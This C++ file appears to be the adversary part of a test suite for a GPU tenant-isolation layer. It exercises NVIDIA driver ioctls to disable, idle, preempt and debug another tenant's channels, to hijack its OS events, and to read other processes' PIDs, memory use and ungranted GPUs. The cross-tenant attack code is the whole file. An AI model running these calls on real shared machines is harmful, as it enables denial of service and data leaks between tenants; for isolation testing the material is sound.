// Attacks with what the driver tells and takes without asking whose it is: scheduling of others'
// channels, figures and processes of the whole GPU, GPUs that are not granted.
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

#include <algorithm>
#include <bit>
#include <chrono>
#include <cstring>

#include "common.h"
#include "rm/control_table.h"
#include "rm/fb_info.h"
#include "rm/nv_controls.h"
#include "rm/nv_ctrl.h"

namespace cgpu::adversary {
namespace {

// Handles of one's own that are none of the tenant's.
constexpr std::uint32_t kOwnHandles = 0xcb000000;

std::uint32_t Handle(const std::vector<std::string>& args, std::size_t index) {
  return static_cast<std::uint32_t>(Number(args, index, 0));
}

// A client with memory, a channel group and a channel that is scheduled, an engine on it, and an
// event of the operating system's.
struct Busy {
  Client client = MakeClient();
  std::uint32_t memory = 0;
  std::uint32_t group = 0;
  std::uint32_t channel = 0;
  std::uint32_t engine = 0;

  explicit Busy(std::uint64_t mib, std::uint32_t handles = Client{}.next) {
    client.next = handles;
    std::uint32_t status = client.AllocMemory(mib, &memory);
    const std::uint32_t space = status == rm::NV_OK ? Space(client, &status) : 0;
    group = status == rm::NV_OK ? Group(client, space, &status) : 0;
    channel = status == rm::NV_OK ? Channel(client, group, 0, 0, &status) : 0;
    engine = client.next++;
    if (status == rm::NV_OK) {
      status = client.Alloc(channel, engine, rm::VOLTA_COMPUTE_A, nullptr);
    }
    if (status == rm::NV_OK) {
      status = Schedule(client, group, true);
    }
    if (status != rm::NV_OK) {
      Die("failed: no channel: 0x%x", status);
    }
  }

  static std::uint32_t Schedule(const Client& client, std::uint32_t group, bool enable) {
    rm::NVA06C_CTRL_GPFIFO_SCHEDULE_PARAMS_V535 params{};
    params.bEnable = enable ? 1 : 0;
    return client.Control(group, rm::NVA06C_CTRL_CMD_GPFIFO_SCHEDULE, &params, sizeof(params));
  }
};

// The driver keeps the descriptor's number as a name, and looks at neither it nor the client.
std::uint32_t OsEvent(const Client& client, std::uint8_t nr, std::uint32_t owner,
                      std::uint32_t number) {
  rm::nv_ioctl_alloc_os_event_t event{};
  event.hClient = owner;
  event.fd = number;
  const int error = client.issue(client.ctl, nr, &event, sizeof(event));
  return error != 0 ? kNoAnswer : event.Status;
}

constexpr std::uint32_t kEvent = 17;  // the tenant's, and the one it makes next
constexpr std::uint32_t kNextEvent = 18;

// Not an attack: whoever is attacked. Has all of this and, at each line, uses it. With "shared" it
// lets everybody copy its channel group and its memory.
int Tenant(const std::vector<std::string>& args) {
  const std::uint64_t mib = Number(args, 0, 512);
  Busy busy(mib);
  if (args.size() > 1) {
    Say("shared 0x%x 0x%x", ShareWithAll(busy.client, busy.group),
        ShareWithAll(busy.client, busy.memory));
  }
  if (OsEvent(busy.client, rm::NV_ESC_ALLOC_OS_EVENT, busy.client.root, kEvent) != rm::NV_OK) {
    Die("failed: no event");
  }
  Say("client %u group %u channel %u memory %u engine %u", busy.client.root, busy.group,
      busy.channel, busy.memory, busy.engine);
  Say("holding");
  std::string line;
  while (Line(&line)) {
    std::uint32_t more = 0;
    for (int i = 0; i < 10; ++i) {
      if (busy.client.AllocMemory(64, &more) != rm::NV_OK || busy.client.Free(more) != rm::NV_OK ||
          Busy::Schedule(busy.client, busy.group, true) != rm::NV_OK) {
        Die("disturbed");
      }
    }
    for (const std::uint32_t event : {kEvent, kNextEvent}) {
      if ((event == kNextEvent &&
           OsEvent(busy.client, rm::NV_ESC_ALLOC_OS_EVENT, busy.client.root, event) != rm::NV_OK) ||
          OsEvent(busy.client, rm::NV_ESC_FREE_OS_EVENT, busy.client.root, event) != rm::NV_OK) {
        Die("disturbed");
      }
    }
    if (OsEvent(busy.client, rm::NV_ESC_ALLOC_OS_EVENT, busy.client.root, kEvent) != rm::NV_OK) {
      Die("disturbed");
    }
    Say("undisturbed");
  }
  return 0;
}

// --- Scheduling

std::uint32_t Disable(const Client& client, std::initializer_list<std::uint32_t> pairs) {
  rm::NV2080_CTRL_FIFO_DISABLE_CHANNELS_PARAMS params{};
  params.bDisable = 1;
  for (const auto* pair = pairs.begin(); pair != pairs.end(); pair += 2) {
    params.hClientList[params.numChannels] = pair[0];
    params.hChannelList[params.numChannels++] = pair[1];
  }
  return client.Control(Client::kSubdevice, rm::NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS, &params,
                        sizeof(params));
}

// CLIENT CHANNEL: takes the tenant's channel off the GPU, alone and after one of its own.
int DisableChannels(const std::vector<std::string>& args) {
  const std::uint32_t victim = Handle(args, 0);
  const std::uint32_t channel = Handle(args, 1);
  const Busy own(1, kOwnHandles);
  Say("alone 0x%x", Disable(own.client, {victim, channel}));
  Say("second 0x%x", Disable(own.client, {own.client.root, own.channel, victim, channel}));
  Client wrapped = own.client;
  wrapped.issue = Wrapped;
  Say("wrapped 0x%x", Disable(wrapped, {victim, channel}));
  Say("own 0x%x", Disable(own.client, {own.client.root, own.channel}));
  Hold();
  return 0;
}

std::uint32_t Idle(const Client& client, std::uint32_t named, std::uint32_t channel, bool list) {
  std::uint32_t clients[] = {client.root, named};
  std::uint32_t devices[] = {Client::kDevice, Client::kDevice};
  std::uint32_t channels[] = {channel, channel};
  rm::NVOS30_PARAMETERS idle{};
  idle.hClient = list ? client.root : named;
  idle.hDevice = Client::kDevice;
  idle.hChannel = channel;
  idle.numChannels = list ? 2 : 1;
  idle.phClients = std::bit_cast<std::uint64_t>(&clients);
  idle.phDevices = std::bit_cast<std::uint64_t>(&devices);
  idle.phChannels = std::bit_cast<std::uint64_t>(&channels);
  idle.flags = list ? 0 : 1U << 4;  // NVOS30_FLAGS_CHANNEL_LIST, _SINGLE
  idle.timeout = 10'000'000;        // microseconds, under the lock of the GPU
  const int error = client.issue(client.ctl, rm::NV_ESC_RM_IDLE_CHANNELS, &idle, sizeof(idle));
  return error != 0 ? kNoAnswer : idle.status;
}

// CLIENT CHANNEL: waits, under the GPU's lock, for channels to have nothing to do.
int IdleChannels(const std::vector<std::string>& args) {
  const std::uint32_t victim = Handle(args, 0);
  const std::uint32_t channel = Handle(args, 1);
  const Busy own(1, kOwnHandles);
  Say("single 0x%x", Idle(own.client, victim, channel, false));
  Say("listed 0x%x", Idle(own.client, victim, channel, true));
  Say("ready");
  std::string line;
  (void)Line(&line);
  Say("own 0x%x", Idle(own.client, own.client.root, own.channel, false));
  Say("own listed 0x%x", Idle(own.client, own.client.root, own.channel, true));
  Hold();
  return 0;
}

// CLIENT GROUP [allow]: a copy of the tenant's channel group and, on it, what needs no right. With
// "allow" it first gives itself the right to copy it, which the driver asks nobody about.
int Regroup(const std::vector<std::string>& args) {
  const std::uint32_t victim = Handle(args, 0);
  const std::uint32_t group = Handle(args, 1);
  Busy own(1, kOwnHandles);
  Client& client = own.client;
  if (args.size() > 2) {
    Say("allow 0x%x", Share(client, victim, group, client.root));
  }
  const std::uint32_t copy = client.next++;
  Say("dup 0x%x", client.Dup(victim, group, copy));
  rm::NVA06C_CTRL_TIMESLICE_PARAMS slice{1};
  Say("timeslice 0x%x",
      client.Control(copy, rm::NVA06C_CTRL_CMD_SET_TIMESLICE, &slice, sizeof(slice)));
  rm::NVA06C_CTRL_PREEMPT_PARAMS preempt{};
  Say("preempt 0x%x", client.Control(copy, rm::NVA06C_CTRL_CMD_PREEMPT, &preempt, sizeof(preempt)));
  Say("stop 0x%x", Busy::Schedule(client, copy, false));
  // One's own group is one's own: answered, and carried out for whoever has no shares to keep.
  Say("own timeslice 0x%x",
      client.Control(own.group, rm::NVA06C_CTRL_CMD_SET_TIMESLICE, &slice, sizeof(slice)));
  Hold();
  return 0;
}

// CLIENT free|take: the event that the tenant waits for, or the place of the one it makes next.
int Events(const std::vector<std::string>& args) {
  const std::uint32_t victim = Handle(args, 0);
  const bool take = args.size() > 1 && args[1] == "take";
  const Client client = MakeClient();
  Say("event 0x%x", OsEvent(client, take ? rm::NV_ESC_ALLOC_OS_EVENT : rm::NV_ESC_FREE_OS_EVENT,
                            victim, take ? kNextEvent : kEvent));
  Say("own event 0x%x", OsEvent(client, rm::NV_ESC_ALLOC_OS_EVENT, client.root, kEvent));
  Hold();
  return 0;
}

// Resets what the GPU's link counts for everybody: by index, and by reading.
int Resets(const std::vector<std::string>&) {
  const Busy own(1, kOwnHandles);
  const auto ask = [&](const char* what, std::uint32_t index) {
    constexpr std::uint32_t kCommand = rm::NV2080_CTRL_CMD_BUS_GET_INFO_V2;
    std::vector<std::uint32_t> list(rm::FindControl(kCommand)->Size(kBranch) / 4);
    list.at(0) = 1;
    list.at(1) = index;
    const std::uint32_t status = own.client.Control(Client::kSubdevice, kCommand, list.data(),
                                                    static_cast<std::uint32_t>(list.size() * 4));
    Say("%s 0x%x %u", what, status, list.at(2));
  };
  ask("before", rm::NV2080_CTRL_BUS_INFO_INDEX_PCIE_GPU_LINK_CORRECTABLE_ERRORS);
  ask("clear", rm::NV2080_CTRL_BUS_INFO_INDEX_PCIE_GPU_LINK_CORRECTABLE_ERRORS_CLEAR);
  ask("read", rm::NV2080_CTRL_BUS_INFO_INDEX_PCIE_GPU_LINK_AER);
  ask("after", rm::NV2080_CTRL_BUS_INFO_INDEX_PCIE_GPU_LINK_CORRECTABLE_ERRORS);
  Hold();
  return 0;
}

// FLAG: a video decoder, with FLAG in prohibitMultipleInstances.
int Decoder(const std::vector<std::string>& args) {
  Client client = MakeClient();
  std::uint32_t status = rm::NV_OK;
  const std::uint32_t space = Space(client, &status);
  const std::uint32_t group = Group(client, space, &status);
  const std::uint32_t channel = Channel(client, group, 0, 0, &status);
  std::uint32_t params[] = {12, Handle(args, 0), 0};  // NV_BSP_ALLOCATION_PARAMETERS, nvos.h
  Say("channel 0x%x", status);
  Say("decoder 0x%x",
      client.Alloc(channel, client.next++, rm::NVC4B0_VIDEO_DECODER, params, sizeof(params)));
  Say("keeps %u", params[1]);
  Hold();
  return 0;
}

// CLIENT ENGINE: debugs the tenant's context, and its own.
int Debug(const std::vector<std::string>& args) {
  Busy own(1, kOwnHandles);
  Client& client = own.client;
  const auto debugger = [&](const char* whose, std::uint32_t app, std::uint32_t engine) {
    std::uint32_t params[] = {0, app, engine};  // NV83DE_ALLOC_PARAMETERS, class/cl83de.h
    const std::uint32_t handle = client.next++;
    Say("%s debugger 0x%x", whose,
        client.Alloc(Client::kDevice, handle, rm::GT200_DEBUGGER, params, sizeof(params)));
    const auto ask = [&](const char* what, std::uint32_t command) {
      std::vector<std::uint32_t> sent(rm::FindControl(command)->Size(kBranch) / 4);
      Say("%s %s 0x%x", whose, what,
          client.Control(handle, command, sent.empty() ? nullptr : sent.data(),
                         static_cast<std::uint32_t>(sent.size() * 4)));
      return sent;
    };
    ask("suspend", rm::NV83DE_CTRL_CMD_DEBUG_SUSPEND_CONTEXT);
    const auto errors = ask("errors", rm::NV83DE_CTRL_CMD_DEBUG_READ_ALL_SM_ERROR_STATES);
    Say("%s debugger reads %u", whose, errors.at(2));
  };
  debugger("tenant's", Handle(args, 0), Handle(args, 1));
  debugger("own", client.root, own.engine);
  Hold();
  return 0;
}

// --- Figures

// The numbers that are looked for in replies: 32 bits, and 64 where 32 do not hold it.
class Needles {
 public:
  Needles(const std::vector<std::string>& args, std::size_t from) {
    for (std::size_t i = from; i < args.size(); ++i) {
      values_.push_back(Number(args, i, 0));
    }
  }
  [[nodiscard]] bool In(const void* reply, std::size_t size) const {
    const std::string_view bytes(static_cast<const char*>(reply), size);
    return std::any_of(values_.begin(), values_.end(), [&](std::uint64_t value) {
      const auto width = value >> 32 == 0 ? sizeof(std::uint32_t) : sizeof(std::uint64_t);
      return bytes.find({reinterpret_cast<const char*>(&value), width}) != std::string_view::npos;
    });
  }

 private:
  std::vector<std::uint64_t> values_;
};

void Tell(const char* name, std::uint32_t status, bool found) {
  Say("%s 0x%x %s", name, status, status == rm::NV_OK && found ? "tells" : "silent");
}

// GPUID PID...: what the driver tells of these processes.
int Pids(const std::vector<std::string>& args) {
  const std::uint32_t gpu_id = Handle(args, 0);
  const Needles pids(args, 1);
  const Busy own(1, kOwnHandles);
  const auto ask = [&](const char* name, std::uint32_t object, std::uint32_t command,
                       std::uint32_t first, bool again = false) {
    std::vector<std::uint32_t> params(rm::FindControl(command)->Size(kBranch) / 4);
    std::uint32_t status = rm::NV_OK;
    bool found = false;
    // A sample is there when its time is over.
    const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(60);
    do {
      params.at(0) = first;
      status = own.client.Control(object, command, params.data(),
                                  static_cast<std::uint32_t>(params.size() * sizeof(params[0])));
      // The first words may be those asked with.
      found = pids.In(params.data() + 2, (params.size() - 2) * sizeof(params[0]));
    } while (again && status == rm::NV_OK && !found && std::chrono::steady_clock::now() < until);
    Tell(name, status, found);
  };
  rm::NV2080_CTRL_GPU_GET_PIDS_PARAMS list{};
  list.id = rm::NV20_SUBDEVICE_0;
  const std::uint32_t status =
      own.client.Control(Client::kSubdevice, rm::NV2080_CTRL_CMD_GPU_GET_PIDS, &list, sizeof(list));
  Tell("pids", status, pids.In(list.pidTbl, sizeof(list.pidTbl)));
  ask("samples", Client::kSubdevice, rm::NV2080_CTRL_CMD_PERF_GET_GPUMON_PERFMON_UTIL_SAMPLES_V2, 0,
      true);
  ask("accounted", own.client.root, rm::NV0000_CTRL_CMD_GPUACCT_GET_ACCOUNTING_PIDS, gpu_id);
  std::uint32_t state[3] = {gpu_id, 0, 1};
  const std::uint32_t enabled = own.client.Control(
      own.client.root, rm::NV0000_CTRL_CMD_GPUACCT_GET_ACCOUNTING_STATE, state, sizeof(state));
  Tell("accounting", enabled, state[2] == 0);
  Hold();
  return 0;
}

// GPUID BYTES PID...: how much memory these processes have, asked by their numbers.
int Usage(const std::vector<std::string>& args) {
  const std::uint32_t gpu_id = Handle(args, 0);
  const std::uint64_t bytes = Number(args, 1, 0);
  const Busy own(1, kOwnHandles);
  for (std::size_t i = 2; i < args.size(); ++i) {
    rm::NV2080_CTRL_GPU_GET_PID_INFO_PARAMS info{};
    info.pidInfoListCount = 1;
    info.pidInfoList[0].pid = Handle(args, i);
    info.pidInfoList[0].index = rm::NV2080_CTRL_GPU_PID_INFO_INDEX_VIDEO_MEMORY_USAGE;
    const std::uint32_t status = own.client.Control(
        Client::kSubdevice, rm::NV2080_CTRL_CMD_GPU_GET_PID_INFO, &info, sizeof(info));
    const auto& use = info.pidInfoList[0].data.vidMemUsage;
    Tell("usage", status, use.memPrivate == bytes || use.memSharedOwned == bytes);
    struct {  // NV0000_CTRL_GPUACCT_GET_PROC_ACCOUNTING_INFO_PARAMS
      std::uint32_t gpu, pid, sub_pid, gpu_use, memory_use;
      std::uint64_t most, start, end;
    } account{};
    account.gpu = gpu_id;
    account.pid = Handle(args, i);
    const std::uint32_t found =
        own.client.Control(own.client.root, rm::NV0000_CTRL_CMD_GPUACCT_GET_PROC_ACCOUNTING_INFO,
                           &account, sizeof(account));
    Tell("account", found, account.most == bytes);
  }
  Hold();
  return 0;
}

// Asks the driver for a view of its page and maps it with `protection`.
void* MapPage(const Client& client, std::uint32_t page, std::size_t size, std::uint32_t access,
              int protection) {
  rm::nv_ioctl_nvos33_parameters_with_fd map{};
  map.params.hClient = client.root;
  map.params.hDevice = Client::kSubdevice;
  map.params.hMemory = page;
  map.params.length = size;
  map.params.flags = access;
  map.fd = OpenControl();
  const int error = Plainly(client.ctl, rm::NV_ESC_RM_MAP_MEMORY, &map, sizeof(map));
  return error != 0 || map.params.status != rm::NV_OK
             ? MAP_FAILED
             : mmap(nullptr, size, protection, MAP_SHARED, map.fd, 0);
}

// The page that the driver shows to everybody: what it says, whether the driver polls for it, and
// whether it can be written to.
void SharedPage(Client& client) {
  rm::NV00DE_ALLOC_PARAMETERS params{~0ULL};
  const std::uint32_t page = client.next++;
  std::uint32_t status =
      client.Alloc(Client::kSubdevice, page, rm::RM_USER_SHARED_DATA, &params, sizeof(params));
  constexpr std::size_t kSize = 4096;
  constexpr std::size_t kTotal = 16;  // 550, class/cl00de.h: bytes, what is free follows
  constexpr std::uint32_t kReadWrite = 0;
  void* at = MapPage(client, page, kSize, kReadWrite, PROT_READ | PROT_WRITE);
  Say("writable %d", at != MAP_FAILED ? 1 : 0);
  const std::uint32_t polls =
      client.Control(page, rm::NV00DE_CTRL_CMD_REQUEST_DATA_POLL, &params, sizeof(params));
  Say("polls 0x%x", polls);
  at = MapPage(client, page, kSize, rm::NVOS33_FLAGS_ACCESS_READ_ONLY, PROT_READ);
  status = status == rm::NV_OK && at == MAP_FAILED ? kNoAnswer : status;
  std::uint64_t figures[2] = {};
  if (status == rm::NV_OK) {
    std::memcpy(figures, static_cast<const char*>(at) + kTotal, sizeof(figures));
  }
  Say("page 0x%x total %llu free %llu", status, static_cast<unsigned long long>(figures[0]),
      static_cast<unsigned long long>(figures[1]));
}

// How much memory the GPU has and how much of it is free, by all that tells.
int Memory(const std::vector<std::string>&) {
  Client client = MakeClient();
  SharedPage(client);
  rm::NV2080_CTRL_FB_INFO list[] = {{rm::NV2080_CTRL_FB_INFO_INDEX_TOTAL_RAM_SIZE, 0},
                                    {rm::NV2080_CTRL_FB_INFO_INDEX_HEAP_FREE, 0}};
  rm::NV2080_CTRL_FB_GET_INFO_PARAMS info{};
  info.fbInfoListSize = 2;
  info.fbInfoList = std::bit_cast<std::uint64_t>(&list);
  std::uint32_t status =
      client.Control(Client::kSubdevice, rm::NV2080_CTRL_CMD_FB_GET_INFO, &info, sizeof(info));
  Say("list 0x%x total %llu free %llu", status, list[0].data * 1024ULL, list[1].data * 1024ULL);
  rm::NV2080_CTRL_FB_GET_INFO_V2_PARAMS_V550 second{};
  second.fbInfoListSize = 2;
  second.fbInfoList[0].index = list[0].index;
  second.fbInfoList[1].index = list[1].index;
  status = client.Control(Client::kSubdevice, rm::NV2080_CTRL_CMD_FB_GET_INFO_V2, &second,
                          sizeof(second));
  Say("table 0x%x total %llu free %llu", status, second.fbInfoList[0].data * 1024ULL,
      second.fbInfoList[1].data * 1024ULL);
  rm::NVOS32_PARAMETERS heap{};
  heap.hRoot = client.root;
  heap.hObjectParent = Client::kDevice;
  heap.function = rm::NVOS32_FUNCTION_INFO;
  const int error = client.issue(client.ctl, rm::NV_ESC_RM_VID_HEAP_CONTROL, &heap, sizeof(heap));
  Say("heap 0x%x total %llu free %llu", error != 0 ? kNoAnswer : heap.status,
      static_cast<unsigned long long>(heap.total), static_cast<unsigned long long>(heap.free));
  std::uint32_t resident[16] = {};
  const std::uint32_t command = rm::NV2080_CTRL_CMD_GR_GET_CURRENT_RESIDENT_CHANNEL;
  status = client.Control(Client::kSubdevice, command, resident,
                          rm::FindControl(command)->Size(kBranch));
  Say("resident 0x%x channel %u", status, resident[0]);
  Hold();
  return 0;
}

// --- GPUs that are not granted

// GPUID UUID(32 hex digits): all that takes a GPU's id.
int Gpus(const std::vector<std::string>& args) {
  const std::uint32_t gpu_id = Handle(args, 0);
  const std::string& uuid = args.at(1);
  Client client = MakeRoot();
  const auto control = [&](const char* name, std::uint32_t command, void* params,
                           std::uint32_t size) {
    const std::uint32_t status = client.Control(client.root, command, params, size);
    Say("%s 0x%x", name, status);
    return status == rm::NV_OK;
  };
  rm::NV0000_CTRL_GPU_ATTACH_IDS_PARAMS attach{};
  std::fill(std::begin(attach.gpuIds), std::end(attach.gpuIds), rm::NV0000_CTRL_GPU_INVALID_ID);
  attach.gpuIds[0] = gpu_id;
  control("attach", rm::NV0000_CTRL_CMD_GPU_ATTACH_IDS, &attach, sizeof(attach));
  rm::NV0000_CTRL_GPU_DETACH_IDS_PARAMS detach{};
  std::copy(std::begin(attach.gpuIds), std::end(attach.gpuIds), std::begin(detach.gpuIds));
  control("detach", rm::NV0000_CTRL_CMD_GPU_DETACH_IDS, &detach, sizeof(detach));
  rm::NV0000_CTRL_GPU_GET_ID_INFO_V2_PARAMS info{};
  info.gpuId = gpu_id;
  control("id-info", rm::NV0000_CTRL_CMD_GPU_GET_ID_INFO_V2, &info, sizeof(info));
  rm::NV0000_CTRL_GPU_GET_PCI_INFO_PARAMS pci{};
  pci.gpuId = gpu_id;
  if (control("pci", rm::NV0000_CTRL_CMD_GPU_GET_PCI_INFO, &pci, sizeof(pci))) {
    Say("bus %04x:%02x:%02x", pci.domain, pci.bus, pci.slot);
  }
  rm::NV0000_CTRL_GPU_GET_UUID_FROM_GPU_ID_PARAMS from{};
  from.gpuId = gpu_id;
  if (control("uuid", rm::NV0000_CTRL_CMD_GPU_GET_UUID_FROM_GPU_ID, &from, sizeof(from))) {
    Say("is %s", reinterpret_cast<const char*>(from.gpuUuid));
  }
  rm::NV0000_CTRL_GPU_GET_UUID_INFO_PARAMS by_uuid{};
  by_uuid.flags = rm::kUuidFormatBinary;
  for (std::size_t i = 0; i < 16; ++i) {
    by_uuid.gpuUuid[i] =
        static_cast<std::uint8_t>(std::strtoul(uuid.substr(2 * i, 2).c_str(), nullptr, 16));
  }
  control("by-uuid", rm::NV0000_CTRL_CMD_GPU_GET_UUID_INFO, &by_uuid, sizeof(by_uuid));
  Say("its id %u", by_uuid.gpuId);
  std::vector<std::uint32_t> peers(
      rm::FindControl(rm::NV0000_CTRL_CMD_SYSTEM_GET_P2P_CAPS_V2)->Size(kBranch) / 4);
  peers.at(0) = gpu_id;
  peers.at(32) = 1;  // the count follows 32 ids
  control("peers", rm::NV0000_CTRL_CMD_SYSTEM_GET_P2P_CAPS_V2, peers.data(),
          static_cast<std::uint32_t>(peers.size() * sizeof(peers[0])));
  rm::nv_ioctl_status_code_t place{};
  place.domain = gpu_id >> 16;
  place.bus = static_cast<std::uint8_t>(gpu_id >> 8);
  place.slot = static_cast<std::uint8_t>(gpu_id);
  Say("status-code 0x%x", Plainly(client.ctl, rm::NV_ESC_STATUS_CODE, &place, sizeof(place)));
  const int file = OpenControl();
  Say("to-file 0x%x", Plainly(file, rm::NV_ESC_ATTACH_GPUS_TO_FD, &info.gpuId, sizeof(info.gpuId)));
  const int wrapped = OpenControl();
  Say("to-file-wrapped 0x%x",
      Wrapped(wrapped, rm::NV_ESC_ATTACH_GPUS_TO_FD, &info.gpuId, sizeof(info.gpuId)));
  Hold();
  return 0;
}

}  // namespace

std::vector<Entry> QueryAttacks() {
  return {
      {"tenant", Tenant, "[MIB [shared]]: memory and a channel group, which it uses"},
      {"disable-channels", DisableChannels, "CLIENT CHANNEL: takes the tenant's channel away"},
      {"idle-channels", IdleChannels, "CLIENT CHANNEL: waits under the GPU's lock"},
      {"regroup", Regroup, "CLIENT GROUP [allow]: schedules the tenant's channel group"},
      {"events", Events, "CLIENT free|take: the tenant's events"},
      {"debug", Debug, "CLIENT ENGINE: the tenant's context in a debugger"},
      {"bus-errors", Resets, ": resets the counters of the GPU's link"},
      {"decoder", Decoder, "FLAG: a video decoder, for itself alone if FLAG is 1"},
      {"pids", Pids, "GPUID PID...: who else is there"},
      {"usage", Usage, "GPUID BYTES PID...: how much they have"},
      {"card-memory", Memory, ": how much the whole GPU has"},
      {"other-card", Gpus, "GPUID UUID: a GPU that is not granted, by its names"},
  };
}

}  // namespace cgpu::adversary
